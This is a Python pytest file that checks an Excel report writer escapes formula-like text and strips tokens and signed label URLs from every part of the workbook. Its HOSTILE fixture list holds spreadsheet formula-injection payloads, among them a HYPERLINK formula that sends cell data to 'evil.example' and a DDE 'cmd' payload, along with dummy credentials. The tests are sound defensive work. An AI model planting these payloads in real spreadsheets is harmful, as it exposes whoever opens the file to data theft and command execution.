"""Hostile text stays text; no token and no label URL reaches any part of the file."""

from __future__ import annotations

import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from okc_recon.config import Secret, Settings
from okc_recon.excel import write_workbook
from okc_recon.excel._xml import clean_text
from okc_recon.runinfo import RunInfo
from okc_recon.schema import REJECTED_LINE_SCHEMA
from tests.excel.month import Month, synthetic_month

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "<b>&amp;</b> ]]> </t></is></c>",
    "  leading and trailing  ",
    "bell\x07and nul\x00 and \ufffe",
]
TOKEN = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJva2MtcGFydG5lciJ9.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg"
LABEL_URL = (
    "https://okc-labels.s3.amazonaws.com/labels/f_0000001.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256"
    "&X-Amz-Credential=AKIAEXAMPLE%2F20240101&X-Amz-Expires=900&X-Amz-Signature=deadbeef0123"
)


def _hostile(month: Month) -> Month:
    def spike(frame: pl.DataFrame, column: str) -> pl.DataFrame:
        values = [HOSTILE[i % len(HOSTILE)] for i in range(frame.height)]
        return frame.with_columns(pl.Series(column, values, dtype=pl.Utf8))

    shipments = spike(month.shipments, "service_billed").with_columns(
        label_url=pl.lit(LABEL_URL), status=pl.lit(f"shipped, label at {LABEL_URL}")
    )
    exceptions = spike(month.exceptions, "detail").with_columns(
        pl.when(pl.int_range(pl.len()) == 0)
        .then(pl.lit(f"Authorization: Bearer {TOKEN}"))
        .otherwise(pl.col("detail"))
        .alias("detail")
    )
    lines = spike(month.invoice_lines, "charge_description")
    unmatched = spike(month.unmatched, "reason")
    return replace(
        month, shipments=shipments, exceptions=exceptions, invoice_lines=lines, unmatched=unmatched
    )


@pytest.fixture(scope="module")
def hostile_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    month = _hostile(synthetic_month(40, seed=3))
    rejected = pl.DataFrame(
        {
            "source_file": ["ups.csv", "fedex.csv"],
            "source_line": [3, 4],
            "format": ["ups_billing_data", "fedex_fbo"],
            "reason": ["=1+1", "bad amount"],
            "raw": [f'{{"label_url": "{LABEL_URL}"}}', f"token={TOKEN}"],
        },
        schema=dict(REJECTED_LINE_SCHEMA),
    )
    settings = Settings(
        base_url="https://partner:hunter2@na1-stage.okcapsule.app/?access_token=abc",
        access_token=Secret(TOKEN),
    )
    info = RunInfo.create(
        settings=settings,
        run_at=datetime(2024, 3, 16, tzinfo=UTC),
        notes=[f"pulled with {TOKEN}"],
    )
    path = tmp_path_factory.mktemp("hostile") / "hostile.xlsx"
    return write_workbook(month, path, rejected=rejected, run_info=info)


def test_text_that_looks_like_a_formula_is_stored_as_text(hostile_book: Path) -> None:
    wb = openpyxl.load_workbook(hostile_book)
    seen = 0
    for sheet, column in [
        ("Shipments", "service_billed"),
        ("Exceptions", "detail"),
        ("Invoice lines", "charge_description"),
        ("Unmatched", "reason"),
    ]:
        ws = wb[sheet]
        col = next(c.column for c in ws[1] if c.value == column)
        for row in range(2, ws.max_row + 1):
            cell = ws.cell(row, col)
            if cell.value is None:
                continue
            assert cell.data_type == "s", (sheet, row, cell.value)
            if cell.value in HOSTILE or clean_text(cell.value.strip()) in map(clean_text, HOSTILE):
                seen += 1
            if cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert cell.quotePrefix, (sheet, row, cell.value)
    assert seen > 40
    reason = wb["Rejected lines"]["D2"]
    assert reason.value == "=1+1"
    assert reason.data_type == "s"


def test_values_come_back_exactly_except_characters_xml_forbids(hostile_book: Path) -> None:
    ws = openpyxl.load_workbook(hostile_book)["Invoice lines"]
    col = next(c.column for c in ws[1] if c.value == "charge_description")
    values = {ws.cell(r, col).value for r in range(2, 2 + len(HOSTILE))}
    assert values == {clean_text(v) for v in HOSTILE}
    assert "\r=1+1" in values  # a carriage return survives the round trip
    assert "  leading and trailing  " in values


def test_only_the_summary_holds_formulas(hostile_book: Path) -> None:
    with zipfile.ZipFile(hostile_book) as z:
        sheets = sorted(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        assert z.read(sheets[0]).count(b"<f>") > 10  # the Summary
        for name in sheets[1:]:
            assert b"<f>" not in z.read(name), name


def test_no_token_and_no_label_url_in_any_part(hostile_book: Path) -> None:
    with zipfile.ZipFile(hostile_book) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    assert len(parts) > 15
    for name, data in parts.items():
        text = data.decode("utf-8", errors="replace").lower()
        for secret in (TOKEN, "x-amz-signature", "x-amz-credential", "okc-labels", "hunter2"):
            assert secret.lower() not in text, (name, secret)
        assert "label_url</t>" not in text, name  # the column itself is dropped
        assert "access_token=abc" not in text, name
    run_info = parts["xl/worksheets/sheet8.xml"].decode()
    assert "https://na1-stage.okcapsule.app/" in run_info
    assert "[token removed]" in run_info


_SMALL = synthetic_month(6, seed=1)


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(texts=st.lists(st.text(min_size=1, max_size=40), min_size=6, max_size=6))
def test_any_text_round_trips(texts: list[str], tmp_path_factory: pytest.TempPathFactory) -> None:
    month = replace(
        _SMALL, shipments=_SMALL.shipments.with_columns(pl.Series("status", texts, dtype=pl.Utf8))
    )
    path = write_workbook(month, tmp_path_factory.mktemp("any") / "any.xlsx")
    wb = openpyxl.load_workbook(path, read_only=True)
    rows = list(wb["Shipments"].iter_rows(values_only=True))
    col = rows[0].index("status")
    assert [row[col] for row in rows[1:]] == [clean_text(t) for t in texts]
    wb.close()
